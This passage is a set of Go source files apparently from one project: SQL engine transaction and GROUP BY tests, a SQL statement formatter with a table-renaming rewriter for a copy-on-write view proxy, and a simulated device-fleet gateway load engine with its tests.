	mustExec(t, db, "COMMIT")
	n, _ := db.QueryScalar("SELECT COUNT(*) FROM t")
	if n != int64(2) {
		t.Errorf("after commit: %v", n)
	}
}

func TestTransactionRollbackRestoresRows(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v INTEGER)")
	mustExec(t, db, "INSERT INTO t (v) VALUES (10)")
	mustExec(t, db, "BEGIN TRANSACTION")
	mustExec(t, db, "INSERT INTO t (v) VALUES (20)")
	mustExec(t, db, "UPDATE t SET v = 99 WHERE _id = 1")
	mustExec(t, db, "DELETE FROM t WHERE _id = 1")
	mustExec(t, db, "ROLLBACK")

	rows := mustQuery(t, db, "SELECT _id, v FROM t ORDER BY _id")
	if len(rows.Data) != 1 || rows.Data[0][1] != int64(10) {
		t.Errorf("after rollback: %v", rows.Data)
	}
	// Auto-increment also restored: the next insert reuses id 2.
	res := mustExec(t, db, "INSERT INTO t (v) VALUES (30)")
	if res.LastInsertID != 2 {
		t.Errorf("id after rollback = %d, want 2", res.LastInsertID)
	}
}

func TestTransactionRollbackRestoresDDL(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE keep (_id INTEGER PRIMARY KEY)")
	mustExec(t, db, "BEGIN")
	mustExec(t, db, "CREATE TABLE temp_t (_id INTEGER PRIMARY KEY)")
	mustExec(t, db, "CREATE VIEW temp_v AS SELECT _id FROM temp_t")
	mustExec(t, db, "ROLLBACK")
	if db.HasTable("temp_t") || db.HasView("temp_v") {
		t.Error("DDL survived rollback")
	}
	if !db.HasTable("keep") {
		t.Error("pre-existing table lost")
	}
	// DROP inside a transaction also rolls back.
	mustExec(t, db, "BEGIN")
	mustExec(t, db, "DROP TABLE keep")
	mustExec(t, db, "ROLLBACK")
	if !db.HasTable("keep") {
		t.Error("dropped table not restored by rollback")
	}
}

func TestTransactionErrors(t *testing.T) {
	db := Open()
	if _, err := db.Exec("COMMIT"); err == nil || !strings.Contains(err.Error(), "no transaction") {
		t.Errorf("commit without begin: %v", err)
	}
	if _, err := db.Exec("ROLLBACK"); err == nil {
		t.Error("rollback without begin should fail")
	}
	mustExec(t, db, "BEGIN")
	if _, err := db.Exec("BEGIN"); err == nil {
		t.Error("nested begin should fail")
	}
	mustExec(t, db, "COMMIT")
}

func TestTransactionIsolatesSnapshotFromLiveRows(t *testing.T) {
	// Mutating rows after BEGIN must not corrupt the snapshot (rows are
	// deep-copied).
	db := Open()
	mustExec(t, db, "CREATE TABLE t (_id INTEGER PRIMARY KEY, v TEXT)")
	mustExec(t, db, "INSERT INTO t (v) VALUES ('original')")
	mustExec(t, db, "BEGIN")
	for i := 0; i < 10; i++ {
		mustExec(t, db, "UPDATE t SET v = ? WHERE _id = 1", "mutation")
	}
	mustExec(t, db, "ROLLBACK")
	v, _ := db.QueryScalar("SELECT v FROM t WHERE _id = 1")
	if v != "original" {
		t.Errorf("snapshot corrupted: %v", v)
	}
}

func TestGroupByHaving(t *testing.T) {
	db := Open()
	mustExec(t, db, "CREATE TABLE sales (_id INTEGER PRIMARY KEY, region TEXT, amount INTEGER)")
	mustExec(t, db, `INSERT INTO sales (region, amount) VALUES
		('east', 100), ('east', 200), ('west', 50), ('north', 500), ('north', 1)`)
	rows := mustQuery(t, db, "SELECT region, SUM(amount) AS total FROM sales GROUP BY region HAVING SUM(amount) > 100 ORDER BY region")
	if len(rows.Data) != 2 {
		t.Fatalf("HAVING rows: %v", rows.Data)
	}
	if rows.Data[0][0] != "east" || rows.Data[0][1] != int64(300) {
		t.Errorf("row 0: %v", rows.Data[0])
	}
	if rows.Data[1][0] != "north" || rows.Data[1][1] != int64(501) {
		t.Errorf("row 1: %v", rows.Data[1])
	}
	// HAVING over COUNT.
	rows = mustQuery(t, db, "SELECT region FROM sales GROUP BY region HAVING COUNT(*) = 1")
	if len(rows.Data) != 1 || rows.Data[0][0] != "west" {
		t.Errorf("count having: %v", rows.Data)
	}
}

func TestTransactionWithCOWProxyShapes(t *testing.T) {
	// The content providers batch delta mutations inside transactions;
	// verify triggers + transactions compose.
	db := Open()
	mustExec(t, db, "CREATE TABLE base (_id INTEGER PRIMARY KEY, v TEXT)")
	mustExec(t, db, "CREATE TABLE delta (_id INTEGER PRIMARY KEY, v TEXT, _whiteout BOOLEAN DEFAULT 0)")
	mustExec(t, db, `CREATE VIEW merged AS
		SELECT _id, v FROM base WHERE _id NOT IN (SELECT _id FROM delta)
		UNION ALL SELECT _id, v FROM delta WHERE _whiteout = 0`)
	mustExec(t, db, `CREATE TRIGGER m_upd INSTEAD OF UPDATE ON merged BEGIN
		INSERT OR REPLACE INTO delta (_id, v, _whiteout) VALUES (new._id, new.v, 0);
	END`)
	mustExec(t, db, "INSERT INTO base (v) VALUES ('a'), ('b')")

	mustExec(t, db, "BEGIN")
	mustExec(t, db, "UPDATE merged SET v = 'A' WHERE _id = 1")
	mustExec(t, db, "ROLLBACK")
	n, _ := db.QueryScalar("SELECT COUNT(*) FROM delta")
	if n != int64(0) {
		t.Errorf("delta rows after rollback: %v", n)
	}
	mustExec(t, db, "BEGIN")
	mustExec(t, db, "UPDATE merged SET v = 'A' WHERE _id = 1")
	mustExec(t, db, "COMMIT")
	v, _ := db.QueryScalar("SELECT v FROM merged WHERE _id = 1")
	if v != "A" {
		t.Errorf("after committed COW update: %v", v)
	}
}
