package sqldb

import (
	"fmt"
	"strconv"
	"strings"
)

// FormatSelect renders a select statement back to SQL. Together with
// RewriteTables it lets the COW proxy re-derive a user-defined view's
// definition with base tables replaced by their COW views (paper §5.2,
// "User-defined SQL views").
func FormatSelect(sel *SelectStmt) string {
	var b strings.Builder
	writeSelect(&b, sel)
	return b.String()
}

// RewriteTables parses a single SELECT statement and renames every
// table/view reference (in FROM clauses, joins, and subqueries) through
// the rename function, returning the rewritten SQL.
func RewriteTables(sql string, rename func(name string) string) (string, error) {
	stmts, err := parseAll(sql)
	if err != nil {
		return "", err
	}
	if len(stmts) != 1 {
		return "", fmt.Errorf("sqldb: RewriteTables requires exactly one statement")
	}
	sel, ok := stmts[0].(*SelectStmt)
	if !ok {
		return "", fmt.Errorf("sqldb: RewriteTables requires a SELECT statement")
	}
	rewriteSelectTables(sel, rename)
	return FormatSelect(sel), nil
}

// SelectTables returns the distinct table/view names referenced by a
// SELECT statement, in first-appearance order.
func SelectTables(sql string) ([]string, error) {
	stmts, err := parseAll(sql)
	if err != nil {
		return nil, err
	}
	if len(stmts) != 1 {
		return nil, fmt.Errorf("sqldb: SelectTables requires exactly one statement")
	}
	sel, ok := stmts[0].(*SelectStmt)
	if !ok {
		return nil, fmt.Errorf("sqldb: SelectTables requires a SELECT statement")
	}
	var names []string
	seen := map[string]bool{}
	rewriteSelectTables(sel, func(name string) string {
		key := strings.ToLower(name)
		if !seen[key] {
			seen[key] = true
			names = append(names, name)
		}
		return name
	})
	return names, nil
}

func rewriteSelectTables(sel *SelectStmt, rename func(string) string) {
	for _, core := range sel.Cores {
		if core.From != nil {
			rewriteRefTables(core.From, rename)
			for i := range core.Joins {
				rewriteRefTables(&core.Joins[i].Ref, rename)
				rewriteExprTables(core.Joins[i].On, rename)
			}
		}
		for _, rc := range core.Cols {
			rewriteExprTables(rc.Expr, rename)
		}
		rewriteExprTables(core.Where, rename)
		for _, g := range core.GroupBy {
			rewriteExprTables(g, rename)
		}
	}
	for _, o := range sel.OrderBy {
		rewriteExprTables(o.Expr, rename)
	}
}

func rewriteRefTables(ref *TableRef, rename func(string) string) {
	if ref.Sub != nil {
		rewriteSelectTables(ref.Sub, rename)
		return
	}
	orig := ref.Name
	ref.Name = rename(ref.Name)
	// Keep qualified column references (orig.col) resolving by aliasing
	// the renamed table back to the original name.
	if ref.Alias == "" && !strings.EqualFold(ref.Name, orig) {
		ref.Alias = orig
	}
}

func rewriteExprTables(e Expr, rename func(string) string) {
	switch x := e.(type) {
	case *Unary:
		rewriteExprTables(x.X, rename)
	case *Binary:
		rewriteExprTables(x.L, rename)
		rewriteExprTables(x.R, rename)
	case *InExpr:
		rewriteExprTables(x.X, rename)
		for _, le := range x.List {
			rewriteExprTables(le, rename)
		}
		if x.Sub != nil {
			rewriteSelectTables(x.Sub, rename)
		}
	case *IsNull:
		rewriteExprTables(x.X, rename)
	case *Between:
		rewriteExprTables(x.X, rename)
		rewriteExprTables(x.Lo, rename)
		rewriteExprTables(x.Hi, rename)
	case *Call:
		for _, a := range x.Args {
			rewriteExprTables(a, rename)
		}
	case *SubqueryExpr:
		rewriteSelectTables(x.Select, rename)
	case *ExistsExpr:
		rewriteSelectTables(x.Select, rename)
	case *CaseExpr:
		rewriteExprTables(x.Operand, rename)
		for _, w := range x.Whens {
			rewriteExprTables(w.Cond, rename)
			rewriteExprTables(w.Result, rename)
		}
		rewriteExprTables(x.Else, rename)
	}
}

// --- SQL rendering ---

func writeSelect(b *strings.Builder, sel *SelectStmt) {
	for i, core := range sel.Cores {
		if i > 0 {
			b.WriteString(" UNION ALL ")
		}
		writeCore(b, core)
	}
	if len(sel.OrderBy) > 0 {
		b.WriteString(" ORDER BY ")
		for i, o := range sel.OrderBy {
			if i > 0 {
				b.WriteString(", ")
			}
			writeExpr(b, o.Expr)
			if o.Desc {
				b.WriteString(" DESC")
			}
		}
	}
	if sel.Limit != nil {
		b.WriteString(" LIMIT ")
		writeExpr(b, sel.Limit)
		if sel.Offset != nil {
			b.WriteString(" OFFSET ")
			writeExpr(b, sel.Offset)
		}
	}
}

func writeCore(b *strings.Builder, core *SelectCore) {
	b.WriteString("SELECT ")
	if core.Distinct {
		b.WriteString("DISTINCT ")
	}
	for i, rc := range core.Cols {
		if i > 0 {
			b.WriteString(", ")
		}
		switch {
		case rc.Star:
			b.WriteString("*")
		case rc.TableStar != "":
			b.WriteString(rc.TableStar + ".*")
		default:
			writeExpr(b, rc.Expr)
			if rc.Alias != "" {
				b.WriteString(" AS " + quoteIdent(rc.Alias))
			}
		}
	}
	if core.From != nil {
		b.WriteString(" FROM ")
		writeRef(b, *core.From)
		for _, j := range core.Joins {
			if j.Left {
				b.WriteString(" LEFT OUTER JOIN ")
			} else {
				b.WriteString(" JOIN ")
			}
			writeRef(b, j.Ref)
			if j.On != nil {
				b.WriteString(" ON ")
				writeExpr(b, j.On)
			}
		}
	}
	if core.Where != nil {
		b.WriteString(" WHERE ")
		writeExpr(b, core.Where)
	}
	if len(core.GroupBy) > 0 {
		b.WriteString(" GROUP BY ")
		for i, g := range core.GroupBy {
			if i > 0 {
				b.WriteString(", ")
			}
			writeExpr(b, g)
		}
	}
}

func writeRef(b *strings.Builder, ref TableRef) {
	if ref.Sub != nil {
		b.WriteString("(")
		writeSelect(b, ref.Sub)
		b.WriteString(")")
	} else {
		b.WriteString(quoteIdent(ref.Name))
	}
	if ref.Alias != "" {
		b.WriteString(" AS " + quoteIdent(ref.Alias))
	}
}

func writeExpr(b *strings.Builder, e Expr) {
	switch x := e.(type) {
	case nil:
		return
	case *Lit:
		writeLit(b, x.Val)
	case *Param:
		b.WriteString("?")
	case *ColRef:
		if x.Table != "" {
			b.WriteString(quoteIdent(x.Table) + ".")
		}
		b.WriteString(quoteIdent(x.Col))
	case *Unary:
		if x.Op == "NOT" {
			b.WriteString("NOT (")
			writeExpr(b, x.X)
			b.WriteString(")")
		} else {
			b.WriteString(x.Op + "(")
			writeExpr(b, x.X)
			b.WriteString(")")
		}
	case *Binary:
		b.WriteString("(")
		writeExpr(b, x.L)
		b.WriteString(" " + x.Op + " ")
		writeExpr(b, x.R)
		b.WriteString(")")
	case *InExpr:
		b.WriteString("(")
		writeExpr(b, x.X)
		if x.Not {
			b.WriteString(" NOT")
		}
		b.WriteString(" IN (")
		if x.Sub != nil {
			writeSelect(b, x.Sub)
		} else {
			for i, le := range x.List {
				if i > 0 {
					b.WriteString(", ")
				}
				writeExpr(b, le)
			}
		}
		b.WriteString("))")
	case *IsNull:
		b.WriteString("(")
		writeExpr(b, x.X)
		if x.Not {
			b.WriteString(" IS NOT NULL)")
		} else {
			b.WriteString(" IS NULL)")
		}
	case *Between:
		b.WriteString("(")
		writeExpr(b, x.X)
		if x.Not {
			b.WriteString(" NOT")
		}
		b.WriteString(" BETWEEN ")
		writeExpr(b, x.Lo)
		b.WriteString(" AND ")
		writeExpr(b, x.Hi)
		b.WriteString(")")
	case *Call:
		if strings.HasPrefix(x.Name, "CAST_") {
			b.WriteString("CAST(")
			writeExpr(b, x.Args[0])
			b.WriteString(" AS " + strings.TrimPrefix(x.Name, "CAST_") + ")")
			return
		}
		b.WriteString(x.Name + "(")
		if x.Star {
			b.WriteString("*")
		}
		for i, a := range x.Args {
			if i > 0 {
				b.WriteString(", ")
			}
			writeExpr(b, a)
		}
		b.WriteString(")")
	case *SubqueryExpr:
		b.WriteString("(")
		writeSelect(b, x.Select)
		b.WriteString(")")
	case *ExistsExpr:
		if x.Not {
			b.WriteString("NOT ")
		}
		b.WriteString("EXISTS (")
		writeSelect(b, x.Select)
		b.WriteString(")")
	case *CaseExpr:
		b.WriteString("CASE")
		if x.Operand != nil {
			b.WriteString(" ")
			writeExpr(b, x.Operand)
		}
		for _, w := range x.Whens {
			b.WriteString(" WHEN ")
			writeExpr(b, w.Cond)
			b.WriteString(" THEN ")
			writeExpr(b, w.Result)
		}
		if x.Else != nil {
			b.WriteString(" ELSE ")
			writeExpr(b, x.Else)
		}
		b.WriteString(" END")
	default:
		b.WriteString("?unknown?")
	}
}

func writeLit(b *strings.Builder, v Value) {
	switch x := v.(type) {
	case nil:
		b.WriteString("NULL")
	case string:
		b.WriteString("'" + strings.ReplaceAll(x, "'", "''") + "'")
	case float64:
		// Plain decimal notation: the lexer has no exponent syntax, and
		// a trailing ".0" keeps an integral float re-parsing as a float.
		s := strconv.FormatFloat(x, 'f', -1, 64)
		if !strings.Contains(s, ".") {
			s += ".0"
		}
		b.WriteString(s)
	default:
		fmt.Fprintf(b, "%v", x)
	}
}

// FormatStmt renders any statement node back to parseable SQL. The
// snapshot dump (DumpUnits) uses it to serialize catalog objects —
// view definitions and trigger bodies round-trip through it.
func FormatStmt(s Stmt) string {
	var b strings.Builder
	writeStmt(&b, s)
	return b.String()
}

func writeStmt(b *strings.Builder, s Stmt) {
	switch x := s.(type) {
	case *SelectStmt:
		writeSelect(b, x)
	case *InsertStmt:
		b.WriteString("INSERT ")
		if x.OrReplace {
			b.WriteString("OR REPLACE ")
		}
		b.WriteString("INTO " + quoteIdent(x.Table))
		if len(x.Cols) > 0 {
			b.WriteString(" (")
			for i, c := range x.Cols {
				if i > 0 {
					b.WriteString(", ")
				}
				b.WriteString(quoteIdent(c))
			}
			b.WriteString(")")
		}
		if x.Select != nil {
			b.WriteString(" ")
			writeSelect(b, x.Select)
			return
		}
		b.WriteString(" VALUES ")
		for i, row := range x.Rows {
			if i > 0 {
				b.WriteString(", ")
			}
			b.WriteString("(")
			for j, e := range row {
				if j > 0 {
					b.WriteString(", ")
				}
				writeExpr(b, e)
			}
			b.WriteString(")")
		}
	case *UpdateStmt:
		b.WriteString("UPDATE " + quoteIdent(x.Table) + " SET ")
		for i, a := range x.Set {
			if i > 0 {
				b.WriteString(", ")
			}
			b.WriteString(quoteIdent(a.Col) + " = ")
			writeExpr(b, a.Expr)
		}
		if x.Where != nil {
			b.WriteString(" WHERE ")
			writeExpr(b, x.Where)
		}
	case *DeleteStmt:
		b.WriteString("DELETE FROM " + quoteIdent(x.Table))
		if x.Where != nil {
			b.WriteString(" WHERE ")
			writeExpr(b, x.Where)
		}
	case *CreateTableStmt:
		b.WriteString("CREATE TABLE ")
		if x.IfNotExists {
			b.WriteString("IF NOT EXISTS ")
		}
		b.WriteString(quoteIdent(x.Name) + " (")
		for i := range x.Cols {
			if i > 0 {
				b.WriteString(", ")
			}
			writeColumnDef(b, &x.Cols[i])
		}
		b.WriteString(")")
	case *CreateViewStmt:
		b.WriteString("CREATE VIEW ")
		if x.IfNotExists {
			b.WriteString("IF NOT EXISTS ")
		}
		b.WriteString(quoteIdent(x.Name) + " AS ")
		writeSelect(b, x.Select)
	case *CreateTriggerStmt:
		b.WriteString("CREATE TRIGGER ")
		if x.IfNotExists {
			b.WriteString("IF NOT EXISTS ")
		}
		b.WriteString(quoteIdent(x.Name) + " INSTEAD OF " + x.Event + " ON " + quoteIdent(x.View) + " BEGIN ")
		for _, bs := range x.Body {
			writeStmt(b, bs)
			b.WriteString("; ")
		}
		b.WriteString("END")
	case *CreateIndexStmt:
		b.WriteString("CREATE INDEX ")
		if x.IfNotExists {
			b.WriteString("IF NOT EXISTS ")
		}
		b.WriteString(quoteIdent(x.Name) + " ON " + quoteIdent(x.Table) + " (")
		for i, c := range x.Cols {
			if i > 0 {
				b.WriteString(", ")
			}
			b.WriteString(quoteIdent(c))
		}
		b.WriteString(")")
		if x.Using != "" {
			b.WriteString(" USING " + x.Using)
		}
	case *DropStmt:
		b.WriteString("DROP " + x.Kind + " ")
		if x.IfExists {
			b.WriteString("IF EXISTS ")
		}
		b.WriteString(quoteIdent(x.Name))
	case *TxnStmt:
		b.WriteString(x.Kind)
	case *ExplainStmt:
		b.WriteString("EXPLAIN ")
		writeStmt(b, x.Target)
	default:
		b.WriteString("?unknown?")
	}
}

func writeColumnDef(b *strings.Builder, c *ColumnDef) {
	b.WriteString(quoteIdent(c.Name))
	if c.Type != "" {
		b.WriteString(" " + c.Type)
	}
	if c.PrimaryKey {
		b.WriteString(" PRIMARY KEY")
	}
	if c.NotNull {
		b.WriteString(" NOT NULL")
	}
	if c.Default != nil {
		b.WriteString(" DEFAULT ")
		writeExpr(b, c.Default)
	}
}

// formatCreateTable renders a catalog table's schema (DumpUnits).
func formatCreateTable(t *table) string {
	var b strings.Builder
	b.WriteString("CREATE TABLE " + quoteIdent(t.name) + " (")
	for i := range t.cols {
		if i > 0 {
			b.WriteString(", ")
		}
		writeColumnDef(&b, &t.cols[i])
	}
	b.WriteString(")")
	return b.String()
}

// formatCreateIndex renders a catalog index's definition (DumpUnits).
func formatCreateIndex(ix *index) string {
	var b strings.Builder
	b.WriteString("CREATE INDEX " + quoteIdent(ix.name) + " ON " + quoteIdent(ix.table) + " (")
	for i, c := range ix.colNames {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(quoteIdent(c))
	}
	b.WriteString(")")
	if ix.kind == indexHash {
		b.WriteString(" USING HASH")
	}
	return b.String()
}

// formatCreateTrigger renders a catalog trigger (DumpUnits).
func formatCreateTrigger(name, event, view string, body []Stmt) string {
	var b strings.Builder
	b.WriteString("CREATE TRIGGER " + quoteIdent(name) + " INSTEAD OF " + event + " ON " + quoteIdent(view) + " BEGIN ")
	for _, s := range body {
		writeStmt(&b, s)
		b.WriteString("; ")
	}
	b.WriteString("END")
	return b.String()
}

// quoteIdent quotes identifiers that cannot stand bare: keywords,
// empty names, leading digits, or special characters. The lexer has no
// escape sequence inside quoted identifiers, but its three quoting
// styles forbid disjoint characters ('"', '`', ']'), and no lexable
// identifier can contain all three — so one style always round-trips.
func quoteIdent(s string) string {
	needs := s == "" || keywords[strings.ToUpper(s)] || s[0] >= '0' && s[0] <= '9'
	if !needs {
		for i := 0; i < len(s); i++ {
			c := s[i]
			if !(c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9') {
				needs = true
				break
			}
		}
	}
	switch {
	case !needs:
		return s
	case !strings.Contains(s, `"`):
		return `"` + s + `"`
	case !strings.Contains(s, "`"):
		return "`" + s + "`"
	default:
		return "[" + s + "]"
	}
}
