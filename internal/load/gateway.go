package load

// Gateway fleet engine: N simulated devices syncing Downloads/Media
// through ONE shared backend over the remote gateway. Unlike Engine
// (which drives raw binder dispatch), this engine exercises the full
// remote path — netstack round trip, identity resolution, schema
// routing, provider dispatch — so its numbers measure what a device
// fleet would actually see.
//
// Devices are installed apps ("dev000".."devNNN") addressed by
// identity token; the gateway runs with AllowDetached so a thousand
// devices need not hold a thousand live AMS instances. Every response
// must be typed: 2xx served, 429 overloaded (with Retry-After), 503
// read-only. Anything else counts as Untyped and fails the run's
// contract.

import (
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"maxoid/internal/ams"
	"maxoid/internal/core"
	"maxoid/internal/intent"
	"maxoid/internal/metrics"
)

// GatewayOptions shape one fleet run.
type GatewayOptions struct {
	// Workers is the number of concurrent clients (default min(devices, 8)).
	Workers int
	// Ops is the total number of requests across the fleet (default 1000).
	Ops int
	// WritePermille is how many requests per 1000 are provider writes
	// (default 250 — a sync-heavy read mix).
	WritePermille int
	// Admission, when non-nil, installs AMS admission control for the
	// run — the overload scenario. Cleared again when the run ends.
	Admission *ams.AdmissionConfig
	// Registry receives the run's client latency histogram; a private
	// one is created when nil.
	Registry *metrics.Registry
}

func (o *GatewayOptions) setDefaults(devices int) {
	if o.Workers <= 0 {
		o.Workers = devices
		if o.Workers > 8 {
			o.Workers = 8
		}
	}
	if o.Ops <= 0 {
		o.Ops = 1000
	}
	if o.WritePermille < 0 {
		o.WritePermille = 0
	}
	if o.WritePermille > 1000 {
		o.WritePermille = 1000
	}
	if o.Registry == nil {
		o.Registry = metrics.NewRegistry()
	}
}

// GatewayResult is one fleet run's outcome. The typed-response
// contract: Issued == Served + Rejected429 + Degraded503 and
// Untyped == 0.
type GatewayResult struct {
	Devices     int
	Workers     int
	Issued      int64
	Served      int64 // 2xx responses
	Rejected429 int64 // typed overload, all carried Retry-After
	Degraded503 int64 // typed read-only shed
	Untyped     int64 // anything else — must be 0
	Elapsed     time.Duration
	Throughput  float64 // served requests per second
	Latency     metrics.Snapshot
	InFlightEnd int64 // admission in-flight gauge after drain (overload runs)
}

func (r *GatewayResult) String() string {
	return fmt.Sprintf(
		"devices=%d workers=%d issued=%d served=%d rej429=%d deg503=%d untyped=%d elapsed=%s thpt=%.0f/s p50=%s p99=%s p999=%s",
		r.Devices, r.Workers, r.Issued, r.Served, r.Rejected429, r.Degraded503,
		r.Untyped, r.Elapsed.Round(time.Millisecond), r.Throughput,
		r.Latency.P50(), r.Latency.P99(), r.Latency.P999())
}

// GatewayEngine owns one shared backend and a fleet of device
// identities. Reusable across runs; Close shuts the backend down.
type GatewayEngine struct {
	Sys    *core.System
	tokens []string
}

// deviceApp is the minimal installed package a fleet identity needs.
type deviceApp struct{ pkg string }

func (a *deviceApp) Package() string                           { return a.pkg }
func (a *deviceApp) OnStart(*ams.Context, intent.Intent) error { return nil }

// NewGatewayEngine boots a backend, installs n device packages, and
// starts the gateway in detached-identity mode sized for the fleet.
func NewGatewayEngine(n int) (*GatewayEngine, error) {
	if n <= 0 {
		n = 1
	}
	sys, err := core.Boot(core.Options{})
	if err != nil {
		return nil, err
	}
	e := &GatewayEngine{Sys: sys, tokens: make([]string, n)}
	for i := 0; i < n; i++ {
		pkg := fmt.Sprintf("dev%03d", i)
		if err := sys.Install(&deviceApp{pkg: pkg}, ams.Manifest{}); err != nil {
			sys.Shutdown()
			return nil, err
		}
		e.tokens[i] = "u0:" + pkg
	}
	workers := 4
	if n >= 64 {
		workers = 8
	}
	if _, err := sys.StartGateway(core.GatewayOptions{AllowDetached: true, Workers: workers}); err != nil {
		sys.Shutdown()
		return nil, err
	}
	return e, nil
}

// Close tears the backend (and its gateway) down.
func (e *GatewayEngine) Close() { e.Sys.Shutdown() }

// Run drives the fleet: each request rotates through the device
// identities; writes insert Downloads/Media rows, reads list them in
// stable order — the sync loop a fleet device runs.
func (e *GatewayEngine) Run(opts GatewayOptions) (*GatewayResult, error) {
	opts.setDefaults(len(e.tokens))
	var adm *ams.Admission
	if opts.Admission != nil {
		adm = e.Sys.AM.EnableAdmissionControl(*opts.Admission)
		adm.SetMetrics(opts.Registry)
		defer e.Sys.Router.SetAdmission(nil)
	}
	lat := opts.Registry.Histogram("gw.client.latency")

	var issued, served, rej429, deg503, untyped atomic.Int64
	var firstBad atomic.Value // first untyped response, for the error
	next := atomic.Int64{}
	var wg sync.WaitGroup
	start := time.Now()
	for w := 0; w < opts.Workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= opts.Ops {
					return
				}
				tok := e.tokens[i%len(e.tokens)]
				method, path, body := e.request(i, opts.WritePermille)
				t0 := time.Now()
				resp, err := e.Sys.GatewayRequest(tok, method, path, body)
				lat.Observe(time.Since(t0))
				issued.Add(1)
				switch {
				case err != nil:
					untyped.Add(1)
					firstBad.CompareAndSwap(nil, fmt.Sprintf("transport: %v", err))
				case resp.Status >= 200 && resp.Status < 300:
					served.Add(1)
				case resp.Status == 429 && resp.Header("Retry-After") != "":
					rej429.Add(1)
				case resp.Status == 503 && resp.Header("Retry-After") != "":
					deg503.Add(1)
				default:
					untyped.Add(1)
					firstBad.CompareAndSwap(nil, fmt.Sprintf("%s %s -> %d %s", method, path, resp.Status, resp.Body))
				}
			}
		}()
	}
	wg.Wait()
	elapsed := time.Since(start)

	res := &GatewayResult{
		Devices:     len(e.tokens),
		Workers:     opts.Workers,
		Issued:      issued.Load(),
		Served:      served.Load(),
		Rejected429: rej429.Load(),
		Degraded503: deg503.Load(),
		Untyped:     untyped.Load(),
		Elapsed:     elapsed,
		Latency:     lat.Snapshot(),
	}
	if elapsed > 0 {
		res.Throughput = float64(res.Served) / elapsed.Seconds()
	}
	if adm != nil {
		res.InFlightEnd = adm.InFlight()
	}
	if res.Untyped != 0 {
		return res, fmt.Errorf("load: %d untyped gateway responses (first: %v)", res.Untyped, firstBad.Load())
	}
	return res, nil
}

// request deterministically picks the i-th operation in the sync mix.
// Writes alternate between Downloads and Media inserts; reads
// alternate between listing each in stable order.
func (e *GatewayEngine) request(i, writePermille int) (method, path string, body []byte) {
	if (i*997)%1000 < writePermille {
		if i%2 == 0 {
			return "POST", "/v1/downloads/my_downloads",
				[]byte(fmt.Sprintf(`{"uri":"http://sync.example.com/f%d","title":"f%d","status":200}`, i, i))
		}
		return "POST", "/v1/media/files",
			[]byte(fmt.Sprintf(`{"_data":"/storage/sdcard/DCIM/s%d.jpg","media_type":1,"title":"s%d","size":%d}`, i, i, i))
	}
	if i%2 == 0 {
		return "GET", "/v1/downloads/my_downloads?order=_id", nil
	}
	return "GET", "/v1/media/files?columns=_id,title,size&order=_id", nil
}
