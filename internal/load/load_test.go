package load

import (
	"testing"
	"time"

	"maxoid/internal/ams"
	"maxoid/internal/binder"
	"maxoid/internal/metrics"
	"maxoid/internal/testutil"
)

// TestFleetCompletesAllOps: with no admission gate, every issued
// transaction completes and the service sees exactly that many parcels,
// in both unbatched and batched modes.
func TestFleetCompletesAllOps(t *testing.T) {
	defer testutil.LeakCheck(t)()
	eng := NewEngine(1000)
	for _, batch := range []int{1, 16} {
		eng.Reset()
		res, err := eng.Run(Options{
			Instances:    1000,
			Workers:      8,
			Ops:          4000,
			Batch:        batch,
			PayloadBytes: 64,
		})
		if err != nil {
			t.Fatalf("batch %d: %v", batch, err)
		}
		if res.Completed != res.Issued {
			t.Fatalf("batch %d: completed %d != issued %d", batch, res.Completed, res.Issued)
		}
		if res.ServiceOps != res.Completed {
			t.Fatalf("batch %d: service saw %d, callers completed %d", batch, res.ServiceOps, res.Completed)
		}
		if res.Rejected != 0 || res.Untyped != 0 {
			t.Fatalf("batch %d: unexpected failures: rejected %d untyped %d", batch, res.Rejected, res.Untyped)
		}
		if res.Dispatch.Count == 0 {
			t.Fatalf("batch %d: dispatch histogram empty", batch)
		}
	}
}

// TestFleetRunExceedingFleetFails: a run cannot ask for more instances
// than the engine holds.
func TestFleetRunExceedingFleetFails(t *testing.T) {
	eng := NewEngine(10)
	if _, err := eng.Run(Options{Instances: 11}); err == nil {
		t.Fatal("oversized run accepted")
	}
}

// TestFleetOverload: under a tiny admission budget every failure is a
// typed overload rejection, accounting is exact, and the admission
// controller drains to zero in-flight (no leaked slots).
func TestFleetOverload(t *testing.T) {
	defer testutil.LeakCheck(t)()
	eng := NewEngine(64)
	res, err := eng.Run(Options{
		Instances: 64,
		Workers:   16,
		Ops:       8000,
		Batch:     1,
		Admission: &ams.AdmissionConfig{
			PerAppRate:  50,
			PerAppBurst: 2,
			MaxInFlight: 4,
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Rejected == 0 {
		t.Fatal("overload run rejected nothing")
	}
	if res.Untyped != 0 {
		t.Fatalf("%d failures were not typed ErrOverloaded", res.Untyped)
	}
	if res.Completed+res.Rejected != res.Issued {
		t.Fatalf("accounting: completed %d + rejected %d != issued %d",
			res.Completed, res.Rejected, res.Issued)
	}
	if res.ServiceOps != res.Completed {
		t.Fatalf("service saw %d parcels, %d completed", res.ServiceOps, res.Completed)
	}
	if res.InFlightEnd != 0 {
		t.Fatalf("admission leaked %d in-flight slots", res.InFlightEnd)
	}
}

// TestFleetRetryAbsorbsOverload: with a generous refill rate and a
// retry policy, CallIdempotent's backoff turns would-be rejections into
// completions.
func TestFleetRetryAbsorbsOverload(t *testing.T) {
	defer testutil.LeakCheck(t)()
	eng := NewEngine(4)
	res, err := eng.Run(Options{
		Instances: 4,
		Workers:   4,
		Ops:       200,
		Batch:     1,
		Admission: &ams.AdmissionConfig{PerAppRate: 5000, PerAppBurst: 8},
		Retry:     &binder.RetryPolicy{Attempts: 8, Base: 2 * time.Millisecond, Max: 20 * time.Millisecond},
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Untyped != 0 {
		t.Fatalf("%d untyped failures", res.Untyped)
	}
	if res.Completed != res.Issued {
		t.Fatalf("retries did not absorb overload: %d/%d completed (%d rejected)",
			res.Completed, res.Issued, res.Rejected)
	}
	if res.InFlightEnd != 0 {
		t.Fatalf("admission leaked %d in-flight slots", res.InFlightEnd)
	}
}

// TestFleetMetricsWired: a run populates the caller-provided registry
// with the binder's latency and throughput series.
